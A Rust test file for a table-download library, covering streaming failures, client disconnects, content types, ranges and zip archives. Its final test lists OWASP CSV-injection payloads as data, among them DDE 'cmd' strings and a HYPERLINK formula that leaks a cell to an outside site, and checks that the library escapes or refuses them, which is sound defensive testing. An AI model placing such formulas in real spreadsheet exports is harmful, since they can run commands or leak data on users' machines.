//! Tables over sockets: what is in the answer, and how a table ends that fails or whose client leaves.

use std::{
    io,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use axum::{Router, extract::Path, response::Response, routing::get};
use downloadview::{
    Csv, Download, DownloadRequest, End, Failure, Format, Formulas, IntoContent, Rows, Zip,
    download_view,
};
use futures::{Stream, StreamExt, TryStreamExt, stream};
use serde::Serialize;
use tests::{
    call::send, http1::Connection, http2, log::Log, message::Request, server::Server, within,
};
use tokio::sync::oneshot;

#[derive(Clone, Serialize)]
struct Row {
    id: usize,
    name: String,
}

fn row(id: usize) -> Row {
    Row {
        id,
        name: format!("row {id}"),
    }
}

/// Rows, of which the one at `bad` is an error.
fn failing(bad: usize) -> impl Iterator<Item = io::Result<Row>> + Send + 'static {
    (0..=500_000).map(move |id| {
        if id == bad {
            Err(io::Error::other("the table is gone"))
        } else {
            Ok(row(id))
        }
    })
}

/// Rows, of which the one at `bad` has a list in a cell.
fn misshapen(bad: usize) -> impl Iterator<Item = serde_json::Value> + Send + 'static {
    (0..=500_000).map(move |id| {
        if id == bad {
            serde_json::json!({ "id": [id] })
        } else {
            serde_json::json!({ "id": id })
        }
    })
}

const FORMATS: [Format; 4] = [Format::Csv, Format::Tsv, Format::JsonLines, Format::Json];

const KINDS: [&str; 3] = ["iterator", "stream", "with"];

fn rows(kind: &str, bad: usize) -> Rows {
    match kind {
        "iterator" => Rows::try_new(failing(bad)),
        "stream" => Rows::try_stream(stream::iter(failing(bad))),
        "misshapen" => Rows::new(misshapen(bad)),
        _ => Rows::with(async move |mut out| {
            for row in failing(bad) {
                out.row(&row?).await?;
            }
            Ok(())
        }),
    }
}

async fn serve(
    Path((kind, bad, format)): Path<(String, usize, Format)>,
    request: DownloadRequest,
) -> Response {
    let download = Download::new(rows(&kind, bad)).basename(format!("rows.{format}"));
    download.respond(&request).await
}

async fn server() -> Server {
    Server::start(Router::new().route("/{kind}/{bad}/{format}", get(serve))).await
}

#[tokio::test]
async fn a_first_row_that_fails_is_a_logged_500() {
    let log = Log::start();
    let server = server().await;
    for format in FORMATS {
        for kind in KINDS {
            let mut connection = Connection::open(&server).await;
            let request = Request::get(format!("/{kind}/0/{format}"));
            let answer = within(connection.exchange(&request)).await;
            assert_eq!(
                (answer.status, answer.body.len()),
                (500, 0),
                "{kind} {format}"
            );
            assert!(log.take()[0].contains("the table is gone"));
        }
    }
    for format in [Format::Csv, Format::Tsv] {
        let mut connection = Connection::open(&server).await;
        let request = Request::get(format!("/misshapen/0/{format}"));
        assert_eq!(within(connection.exchange(&request)).await.status, 500);
        assert!(log.take()[0].contains("row 1, column `id`: a list in a cell"));
    }
}

#[tokio::test]
async fn a_later_row_that_fails_aborts_the_download() {
    let log = Log::start();
    let server = server().await;
    for format in FORMATS {
        for kind in KINDS {
            let request = Request::get(format!("/{kind}/500/{format}"));
            let mut connection = Connection::open(&server).await;
            within(connection.try_exchange(&request))
                .await
                .expect_err("an aborted body");
            let mut connection = http2::Connection::open(&server).await;
            within(connection.try_exchange(&request))
                .await
                .expect_err("a reset stream");
            let lines = log.take();
            assert_eq!(lines.len(), 2, "once for each protocol: {lines:?}");
            assert!(lines[0].contains("the table is gone"), "{lines:?}");
        }
    }
    let request = Request::get("/misshapen/500/csv");
    let mut connection = Connection::open(&server).await;
    within(connection.try_exchange(&request))
        .await
        .expect_err("an aborted body");
    assert!(log.take()[0].contains("row 501, column `id`: a list in a cell"));
}

#[tokio::test]
async fn a_row_that_fails_after_many_aborts_the_download() {
    let log = Log::start();
    let server = server().await;
    let kinds = KINDS.iter().cycle();
    for (format, kind) in FORMATS.into_iter().zip(kinds) {
        let request = Request::get(format!("/{kind}/500000/{format}"));
        let mut connection = Connection::open(&server).await;
        within(connection.try_exchange(&request))
            .await
            .expect_err("an aborted body");
        assert!(log.take()[0].contains("the table is gone"));
    }
}

#[tokio::test]
async fn an_array_is_not_closed_after_a_failure() {
    for kind in KINDS {
        let download = Download::new(rows(kind, 3)).basename("rows.json");
        let response = download.respond(&DownloadRequest::default()).await;
        let mut body = response.into_body().into_data_stream();
        let mut text = Vec::new();
        while let Some(Ok(bytes)) = body.next().await {
            text.extend_from_slice(&bytes);
        }
        let text = String::from_utf8(text).unwrap();
        assert!(!text.contains(']'), "{kind}: {text}");
        assert!(
            text.is_empty() || text.ends_with("\"row 2\"}"),
            "{kind}: {text}"
        );
    }
}

/// A million rows, far more than the buffers between source and client take.
#[tokio::test]
async fn a_future_of_rows_is_pending_while_the_client_is_behind_and_dropped_when_it_leaves() {
    let added = Arc::new(AtomicUsize::new(0));
    let (holds, held) = oneshot::channel::<()>();
    let (ends, ended) = oneshot::channel();
    let count = Arc::clone(&added);
    let rows = Rows::with(async move |mut out| {
        let _holds = holds;
        for id in 0..1_000_000 {
            out.row(&row(id)).await?;
            count.fetch_add(1, Ordering::SeqCst);
        }
        Ok(())
    });
    let download = Download::new(rows).basename("rows.csv");
    let download = download.on_finish(move |outcome| ends.send(outcome.end).unwrap());
    let server = Server::of(download).await;
    let mut connection = Connection::open_narrow(&server).await;
    connection.begin(&Request::get("/")).await;
    connection.receive(1_000).await;
    let mut before = 0;
    loop {
        tokio::time::sleep(Duration::from_millis(100)).await;
        let now = added.load(Ordering::SeqCst);
        if now == before {
            break;
        }
        before = now;
    }
    assert!((1..500_000).contains(&before), "{before} rows ahead");
    drop(connection);
    within(held).await.expect_err("the future is dropped");
    assert!(matches!(within(ended).await, Ok(End::ClientLeft)));
}

#[derive(Clone)]
struct Pool(Vec<usize>);

impl Pool {
    /// Borrows the pool, as a query does.
    fn fetch(&self) -> impl Stream<Item = io::Result<Row>> + Send {
        stream::iter(&self.0).map(|id| Ok(row(*id)))
    }
}

#[tokio::test]
async fn a_future_of_rows_may_borrow_what_it_owns() {
    let pool = Pool(vec![1, 2]);
    let other = pool.clone();
    let async_closure = Rows::with(async move |mut out| {
        let mut rows = pool.fetch();
        while let Some(row) = rows.try_next().await? {
            out.row::<Row>(&row).await?;
        }
        let _: u32 = "17".parse()?;
        Ok(())
    });
    let async_block = Rows::with(|mut out| async move {
        let mut rows = other.fetch();
        while let Some(row) = rows.try_next().await? {
            out.row(&(row.id, row.name.as_str())).await?;
        }
        Ok(())
    });
    for (rows, expected) in [
        (async_closure, "id,name\r\n1,row 1\r\n2,row 2\r\n"),
        (async_block, "1,row 1\r\n2,row 2\r\n"),
    ] {
        assert_eq!(text(rows, "rows.csv").await, expected);
    }
}

async fn respond(rows: Rows, name: &'static str) -> Response {
    let download = Download::new(rows).basename(name);
    download.respond(&DownloadRequest::default()).await
}

async fn text(rows: Rows, name: &'static str) -> String {
    let response = respond(rows, name).await;
    assert_eq!(response.status(), 200);
    let body = axum::body::to_bytes(response.into_body(), usize::MAX).await;
    String::from_utf8(body.unwrap().to_vec()).unwrap()
}

#[tokio::test]
async fn a_sink_whose_row_failed_fails_the_download_even_if_the_error_is_ignored() {
    let rows = Rows::with(|mut out| async move {
        out.row(&(1, 2)).await?;
        let _ = out.row(&(1, vec![2])).await;
        Ok(())
    });
    let response = respond(rows, "rows.csv").await;
    let body = axum::body::to_bytes(response.into_body(), usize::MAX).await;
    assert!(body.is_err());
}

#[tokio::test]
async fn a_sink_that_outlives_its_future_fails_the_download() {
    let (keep, kept) = oneshot::channel();
    let rows = Rows::with(|mut out| async move {
        out.row(&(1, 2)).await?;
        keep.send(out).ok();
        Ok(())
    });
    let response = respond(rows, "rows.csv").await;
    let body = axum::body::to_bytes(response.into_body(), usize::MAX).await;
    assert!(body.is_err());
    let mut out = kept.await.unwrap();
    assert!(out.row(&(3, 4)).await.is_err());
}

#[tokio::test]
async fn rows_of_another_task_are_sent_while_the_future_waits() {
    let rows = Rows::with(|mut out| async move {
        let task = tokio::spawn(async move {
            for id in 0..10_000 {
                out.row(&(id, "some text")).await?;
            }
            Ok::<_, axum::BoxError>(())
        });
        task.await?
    });
    let text = text(rows, "rows.csv").await;
    assert_eq!(text.lines().count(), 10_000);
    assert!(text.ends_with("9999,some text\r\n"));
}

#[tokio::test]
async fn an_empty_table_has_only_the_titles_that_were_given() {
    let titled = |kind: &str| {
        let rows = match kind {
            "iterator" => Rows::new(Vec::<Row>::new()),
            "stream" => Rows::stream(stream::empty::<Row>()),
            _ => Rows::with(|_| async { Ok(()) }),
        };
        rows.columns(["No.", "Name"])
    };
    for kind in KINDS {
        assert_eq!(text(titled(kind), "a.csv").await, "No.,Name\r\n", "{kind}");
        assert_eq!(text(titled(kind), "a.tsv").await, "No.\tName\r\n", "{kind}");
        assert_eq!(text(titled(kind), "a.jsonl").await, "", "{kind}");
        assert_eq!(text(titled(kind), "a.json").await, "[]", "{kind}");
    }
    let response = respond(Rows::new(Vec::<Row>::new()), "a.csv").await;
    assert_eq!(response.headers()["content-length"], "0");
    let content_type = &response.headers()["content-type"];
    assert_eq!(content_type, "text/csv; charset=utf-8; header=absent");
}

#[tokio::test]
async fn the_type_says_if_there_is_a_header() {
    let structs = || Rows::new([row(1)]);
    let tuples = || Rows::new([(1, 2)]);
    for (rows, header) in [
        (structs(), "present"),
        (structs().columns(["a", "b"]), "present"),
        (structs().csv(Csv::new().no_header()), "absent"),
        (tuples(), "absent"),
        (tuples().columns(["a", "b"]), "present"),
        (
            tuples().columns(["a", "b"]).csv(Csv::new().no_header()),
            "absent",
        ),
        (Rows::new([1]).columns(["a"]), "present"),
    ] {
        let response = respond(rows, "rows.csv").await;
        let expected = format!("text/csv; charset=utf-8; header={header}");
        assert_eq!(response.headers()["content-type"], expected);
    }
}

#[tokio::test]
async fn options_about_the_type_win() {
    let of = |download: Download| async move {
        let response = download.respond(&DownloadRequest::default()).await;
        assert_eq!(response.status(), 200);
        response.headers()["content-type"].clone()
    };
    let rows = || Download::new(Rows::new([row(1)]));
    let download = rows().basename("a.csv").content_type("text/plain");
    assert_eq!(of(download).await, "text/plain; charset=utf-8");
    let download = rows().basename("a.csv").no_charset();
    assert_eq!(of(download).await, "text/csv; header=present");
    let download = rows().basename("a.csv").charset("us-ascii");
    assert_eq!(
        of(download).await,
        "text/csv; charset=us-ascii; header=present"
    );
    let download = rows().content_type("application/json");
    assert_eq!(of(download).await, "application/json");
    let download = rows()
        .basename("a.txt")
        .content_type("text/csv; header=present");
    assert_eq!(
        of(download).await,
        "text/csv; header=present; charset=utf-8"
    );
    let set = Rows::new([row(1)]).format(Format::Csv);
    let download = Download::new(set).basename("a.txt");
    assert_eq!(
        of(download).await,
        "text/csv; charset=utf-8; header=present"
    );
}

#[tokio::test]
async fn a_set_format_wins_over_the_name_and_the_name_over_the_type() {
    let of = |download: Download| async move {
        let response = download.respond(&DownloadRequest::default()).await;
        let body = axum::body::to_bytes(response.into_body(), 1000).await;
        String::from_utf8(body.unwrap().to_vec()).unwrap()
    };
    let rows = || Rows::new([(1, 2)]);
    let set = rows().format(Format::Tsv);
    let download = Download::new(set)
        .basename("a.csv")
        .content_type("application/json");
    assert_eq!(of(download).await, "1\t2\r\n");
    let download = Download::new(rows())
        .basename("A.CSV")
        .content_type("application/json");
    assert_eq!(of(download).await, "1,2\r\n");
    let download = Download::new(rows())
        .basename("a.txt")
        .content_type("application/json");
    assert_eq!(of(download).await, "[\n[1,2]\n]");
    let download = Download::new(rows()).basename("/tmp/a.csv/");
    assert_eq!(of(download).await, "1,2\r\n");
}

#[tokio::test]
async fn a_name_that_says_no_format_is_a_500_that_names_it() {
    for (name, expected) in [
        (
            Some("orders.pdf"),
            "rows cannot be written as \"orders.pdf\"",
        ),
        (Some("orders"), "rows cannot be written as \"orders\""),
        (None, "rows without a name"),
    ] {
        let mut download = Download::new(Rows::new([(1, 2)]));
        if let Some(name) = name {
            download = download.basename(name);
        }
        let response = download.respond(&DownloadRequest::default()).await;
        assert_eq!(response.status(), 500);
        let failure = response.extensions().get::<Failure>().unwrap().to_string();
        assert!(failure.starts_with(expected), "{failure}");
    }
    let rows = Rows::new([(1, 2)]).csv(Csv::new().delimiter('"'));
    assert_eq!(respond(rows, "a.csv").await.status(), 500);
    let rows = Rows::new([(1, 2)]).csv(Csv::new().delimiter('"'));
    assert_eq!(text(rows, "a.json").await, "[\n[1,2]\n]");
}

#[download_view(basename = "rows.csv", etag = "v1")]
async fn guarded() -> Rows {
    Rows::with(|_| async { panic!("the rows were made") })
}

#[tokio::test]
async fn head_and_304_make_no_rows() {
    let app = || Router::new().route("/", get(guarded));
    let answer = send(app(), "HEAD", "/", &[]).await;
    assert_eq!(answer.status, 200);
    assert_eq!(answer.field("content-type"), "text/csv; charset=utf-8");
    assert_eq!(
        answer.field("content-disposition"),
        "inline; filename=\"rows.csv\""
    );
    let answer = send(app(), "GET", "/", &[("if-none-match", "\"v1\"")]).await;
    assert_eq!(answer.status, 304);
}

/// Counts how often it is dropped, and where: a destructor may block.
struct Probe(Option<oneshot::Sender<Option<String>>>);

impl Iterator for Probe {
    type Item = (u8, u8);

    fn next(&mut self) -> Option<(u8, u8)> {
        panic!("an item was asked for")
    }
}

impl Drop for Probe {
    fn drop(&mut self) {
        let name = std::thread::current().name().map(str::to_owned);
        self.0.take().unwrap().send(name).unwrap();
    }
}

#[tokio::test]
async fn an_iterator_that_is_not_wanted_is_dropped_on_the_blocking_pool() {
    let here = std::thread::current().id();
    for method in [axum::http::Method::HEAD, axum::http::Method::GET] {
        let (dropped, wait) = oneshot::channel();
        let rows = Rows::new(Probe(Some(dropped)));
        let request = axum::http::Request::builder()
            .method(method.clone())
            .body(())
            .unwrap();
        let request = DownloadRequest::from_parts(&request.into_parts().0);
        // GET fails, since there is no name.
        let _ = Download::new(rows.into_content()).respond(&request).await;
        let name = within(wait).await.unwrap();
        assert_ne!(
            name.as_deref(),
            std::thread::current().name(),
            "{method} {here:?}"
        );
    }
}

#[tokio::test]
async fn rows_with_a_size_and_a_tag_have_ranges() {
    let server = Server::start(Router::new().route(
        "/",
        get(async |request: DownloadRequest| {
            let rows = Rows::new((0..3).map(row));
            let download = Download::new(rows).basename("rows.csv").size(38).etag("v1");
            download.respond(&request).await
        }),
    ))
    .await;
    let request = Request::get("/").range("bytes=9-16");
    let mut connection = Connection::open(&server).await;
    let answer = within(connection.exchange(&request)).await;
    assert_eq!((answer.status, &answer.body[..]), (206, &b"0,row 0\r"[..]));
    assert_eq!(
        answer.field("content-type"),
        Some("text/csv; charset=utf-8; header=present")
    );
}

#[tokio::test]
async fn a_table_in_an_archive_has_the_format_of_its_path() {
    let mut archive = Zip::new();
    archive.add("2026/rows.csv", Rows::new((0..2).map(row)));
    archive.add("rows.JSON", Rows::stream(stream::iter((0..2).map(row))));
    archive.add("rows.txt", Rows::new([(1, 2)]).format(Format::Tsv));
    archive.add("empty.csv", Rows::new(Vec::<Row>::new()).columns(["a"]));
    let response = Download::new(archive)
        .basename("tables.zip")
        .respond(&DownloadRequest::default())
        .await;
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX).await;
    let mut read = zip::ZipArchive::new(io::Cursor::new(bytes.unwrap())).unwrap();
    for (path, expected) in [
        ("2026/rows.csv", "id,name\r\n0,row 0\r\n1,row 1\r\n"),
        (
            "rows.JSON",
            "[\n{\"id\":0,\"name\":\"row 0\"},\n{\"id\":1,\"name\":\"row 1\"}\n]",
        ),
        ("rows.txt", "1\t2\r\n"),
        ("empty.csv", "a\r\n"),
    ] {
        let text = io::read_to_string(read.by_name(path).unwrap()).unwrap();
        assert_eq!(text, expected, "{path}");
    }
    let mut nameless = Zip::new();
    nameless.add("rows", Rows::new([(1, 2)]));
    let download = Download::new(nameless).basename("tables.zip");
    let response = download.respond(&DownloadRequest::default()).await;
    assert_eq!(response.status(), 500);
}

#[tokio::test]
async fn formulas_of_attackers_are_text() {
    // OWASP's examples of CSV injection, and full-width variants.
    let payloads = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://example.org?leak=\"&A1,\"Error\")",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "＝1+1",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
    ];
    let text = text(Rows::new(payloads.map(|payload| (payload, -1))), "a.csv").await;
    let mut reader = csv::ReaderBuilder::new();
    let mut reader = reader.has_headers(false).from_reader(text.as_bytes());
    for (record, payload) in reader.records().zip(payloads) {
        let record = record.unwrap();
        assert_eq!(record[0], format!("'{payload}"));
        assert_eq!(&record[1], "-1");
    }
    let refused = Rows::new([("=1+1",)]).csv(Csv::new().formulas(Formulas::Refuse));
    assert_eq!(respond(refused, "a.csv").await.status(), 500);
}
